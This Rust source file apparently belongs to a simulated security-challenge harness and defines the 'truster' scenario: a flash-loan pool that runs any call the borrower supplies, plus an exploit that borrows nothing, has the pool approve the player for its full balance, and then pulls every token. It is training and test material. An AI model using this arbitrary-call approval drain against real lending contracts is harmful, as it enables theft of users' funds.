//! A lending pool that lets the borrower pick any call to run during the
//! loan. Asking it to approve the player drains it.

use std::sync::Arc;

use gauntlet_common::primitives::ether;
use gauntlet_common::subsystems::token::Token;
use gauntlet_common::subsystems::truster::TrusterPool;
use gauntlet_common::{Amount, CallData};

use crate::runner::{Exploit, ExploitView, Step};
use crate::scenario::{AccountRef, ActorDef, AssetRef, Assertion, Scenario, ScenarioError};

pub const NAME: &str = "truster";

pub fn tokens_in_pool() -> Amount {
    ether(1_000_000)
}

pub fn scenario() -> Result<Scenario, ScenarioError> {
    let pool = AccountRef::subsystem("pool");
    let player = AccountRef::actor("player");
    let dvt = AssetRef::token("token");

    Scenario::builder(NAME)
        .description("Flash loan pool executing an arbitrary call on the borrower's behalf")
        .actor(ActorDef::observer("deployer", Amount::zero()))
        .actor(ActorDef::signer("player", Amount::zero()))
        .deploy("token", "deployer", Arc::new(Token), vec![])
        .deploy(
            "pool",
            "deployer",
            Arc::new(TrusterPool),
            vec![AccountRef::subsystem("token").into()],
        )
        .fund(pool.clone(), dvt.clone(), tokens_in_pool())
        .precondition(Assertion::balance_eq(pool.clone(), dvt.clone(), tokens_in_pool()))
        .precondition(Assertion::balance_eq(player.clone(), dvt.clone(), Amount::zero()))
        .postcondition(Assertion::balance_eq(player, dvt.clone(), tokens_in_pool()))
        .postcondition(Assertion::balance_eq(pool, dvt, Amount::zero()))
        .build()
}

/// Borrow nothing, have the pool approve the player, then pull the funds.
pub struct TrusterExploit;

impl Exploit for TrusterExploit {
    fn plan(&self, view: &ExploitView) -> anyhow::Result<Vec<Step>> {
        let player = view.actor("player")?;
        let pool = view.subsystem("pool")?;
        let token = view.subsystem("token")?;

        let approve = CallData::new("approve").arg(player).arg(tokens_in_pool());
        let loan = CallData::new("flash_loan")
            .arg(Amount::zero())
            .arg(player)
            .arg(token)
            .arg(approve);
        let pull = CallData::new("transfer_from")
            .arg(pool)
            .arg(player)
            .arg(tokens_in_pool());
        Ok(vec![
            Step::call("player", pool, loan),
            Step::call("player", token, pull),
        ])
    }

    fn describe(&self) -> String {
        "approve through the pool's trusted call".to_string()
    }
}

pub fn exploit() -> Arc<dyn Exploit> {
    Arc::new(TrusterExploit)
}
